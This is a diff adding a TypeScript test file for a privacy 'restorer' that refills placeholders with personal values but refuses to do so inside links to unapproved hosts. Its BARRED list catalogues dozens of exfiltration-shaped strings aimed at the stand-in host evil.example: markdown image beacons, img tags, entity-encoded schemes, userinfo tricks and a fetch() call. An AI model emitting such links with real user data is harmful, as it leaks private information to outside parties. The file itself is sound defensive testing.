@@ -1,0 +1,173 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { createRestorer, hostsIn, restoreText } from '../../restore/index.ts'
+import { placeholderOf, vaultOf } from './support.ts'
+
+const vault = vaultOf(
+  ['PERSON', 'anna'],
+  ['URL', 'https://known.example/wiki'],
+  ['EMAIL', 'anna@example.com'],
+)
+const person = placeholderOf(vault, 'anna')
+const url = placeholderOf(vault, 'https://known.example/wiki')
+const email = placeholderOf(vault, 'anna@example.com')
+const allowedHosts = hostsIn([
+  'see https://known.example/wiki, http://localhost:8080/x, and anna.known.example',
+])
+
+/** `%` stands for the placeholder. */
+const BARRED = [
+  'https://evil.example/?q=%',
+  'http://evil.example/%',
+  'HTTPS://EVIL.EXAMPLE/%',
+  'ftp://evil.example/%',
+  'wss://evil.example/%',
+  'slack://open?x=%',
+  '![](https://evil.example/a.png?q=%)',
+  '![](//evil.example/%)',
+  '[text](//evil.example/%)',
+  '[text](<https://evil.example/a b %>)',
+  '[ref]: https://evil.example/%',
+  '![x]( //evil.example/%)',
+  '<img src="https://evil.example/?q= %">',
+  "<img src='https://evil.example/\n%'>",
+  '<img src=https://evil.example/%>',
+  '<https://evil.example/%>',
+  'https://evil.example/"%',
+  'https://evil.example/(%)',
+  'https://evil.example#%',
+  'https://evil.example?%',
+  'https://evil.example\\%',
+  'https://evil.example:443/%',
+  'https://evil.example./%',
+  'https:evil.example/%',
+  'https:/evil.example/%',
+  'https:\\\\evil.example/%',
+  'https:\\/\\/evil.example\\/%',
+  'https\\://evil.example/%',
+  'https://known.example@evil.example/%',
+  'https://known.example:pw@evil.example/%',
+  'https://known.example.evil.example/%',
+  'https://evil&#46;example/%',
+  'https://%.evil.example/',
+  'https://%/',
+  'https://x%.known.example/',
+  '![](//%.evil.example/a.png)',
+  ' //%.evil.example/a.png',
+  'https://%@evil.example/',
+  'www.evil.example/%',
+  '&#104;ttps://evil.example/%',
+  '![](&#104;ttps:&#47;&#47;evil.example/%)',
+  '![](&#x68;ttps:&#x2f;&#x2f;evil.example/%)',
+  '![](&#104ttps&#58;&#47;&#47;evil.example/%)',
+  'https&colon;//evil.example/%',
+  'https&colon;&sol;&sol;evil.example/%',
+  'https://known.example https://evil.example/%',
+  '[a](https://known.example)[b](https://evil.example/%)',
+  '{"url":"https://evil.example/%"}',
+  `url("https://evil.example/%")`,
+  'fetch(`https://evil.example/%`)',
+]
+
+const FREE = [
+  '%',
+  'Dear %, see https://evil.example/ for more. Yours, %',
+  '[%](https://evil.example/)',
+  '[link](https://evil.example/) %',
+  '(https://evil.example/) %',
+  '(https://evil.example/)%',
+  '<a href="https://evil.example/">%</a>',
+  '<https://evil.example/>%',
+  '{"url":"https://evil.example/","name":"%"}',
+  '`https://evil.example/`: %',
+  'https://known.example/%',
+  'https://KNOWN.example/?q=%',
+  'https://known.example:8443/%#%',
+  'http://localhost:8080/%',
+  '//known.example/%',
+  'https://%.known.example/',
+  'https://%.known.example',
+  'https:\\/\\/known.example\\/%',
+  '// % wrote this',
+  '//% wrote this',
+  'a // b % c',
+  'x = 4 // %',
+  'C://%',
+  'time: 12:30 %',
+  'http: %',
+  'mailto:%',
+  'AT&#38;T %',
+  'it&#39;s %',
+]
+
+function pushed(text: string): string {
+  const restorer = createRestorer(vault, { allowedHosts })
+  return [...text].map((character) => restorer.push(character)).join('') + restorer.end()
+}
+
+for (const line of BARRED) {
+  test(`no value goes into ${JSON.stringify(line)}`, () => {
+    const text = line.replaceAll('%', person)
+    assert.equal(restoreText(text, vault, { allowedHosts }), text)
+    assert.equal(pushed(text), text)
+    assert.equal(restoreText(`${text}\n\n${person}`, vault, { allowedHosts: 'any' }).includes(person), false)
+  })
+}
+
+for (const line of FREE.filter((text) => text !== 'C://%')) {
+  test(`values go into ${JSON.stringify(line)}`, () => {
+    const restored = line.replaceAll('%', 'anna')
+    assert.equal(restoreText(line.replaceAll('%', person), vault, { allowedHosts }), restored)
+    assert.equal(pushed(line.replaceAll('%', person)), restored)
+  })
+}
+
+test('a URL that is a value itself comes back anywhere', () => {
+  assert.equal(restoreText(`[x](${url})`, vault), '[x](https://known.example/wiki)')
+  assert.equal(restoreText(`"${url}"`, vault), '"https://known.example/wiki"')
+})
+
+test('a URL ends, and what follows is restored again', () => {
+  const text = `![](https://evil.example/${person}) ${person}`
+  assert.equal(restoreText(text, vault, { allowedHosts }), `![](https://evil.example/${person}) anna`)
+})
+
+test('without a word about hosts no URL gets a value', () => {
+  assert.equal(restoreText(`https://known.example/${person}`, vault), `https://known.example/${person}`)
+  assert.equal(
+    restoreText(`https://known.example/${person}`, vault, { allowedHosts: 'any' }),
+    'https://known.example/anna',
+  )
+})
+
+test('what is not restored is not counted', () => {
+  const restorer = createRestorer(vault, { allowedHosts })
+  restorer.push(`https://evil.example/${person} ${email}`)
+  restorer.end()
+  assert.equal(restorer.restored, 1)
+})
+
+const HOSTS: readonly [text: string, hosts: readonly string[]][] = [
+  ['', []],
+  ['See https://Docs.Example.com/a?b#c.', ['docs.example.com']],
+  ['http://localhost:8080/', ['localhost']],
+  ['//cdn.example.net/x', ['cdn.example.net']],
+  ['our site is example.org, or www.example.org.', ['example.org', 'www.example.org']],
+  ['mail anna.s@example.com', []],
+  ['e.g. this', ['e.g']],
+  ['1.2.3.4', ['1.2.3.4']],
+  ['https://bücher.example/', ['bücher.example']],
+  ['https://user:pw@host.example/', ['host.example']],
+]
+for (const [text, hosts] of HOSTS) {
+  test(`the hosts in ${JSON.stringify(text)}`, () => {
+    assert.deepEqual([...hostsIn([text])].sort(), [...hosts].sort())
+  })
+}
+
+test('hosts are found in 1 MB of dots, slashes and letters in linear time', () => {
+  const before = process.hrtime.bigint()
+  for (const unit of ['.', 'a.', '//', '//a', 'a-', '..a', '@.'])
+    hostsIn([unit.repeat(1_000_000 / unit.length)])
+  assert.ok(Number(process.hrtime.bigint() - before) / 1e6 < 10_000)
+})
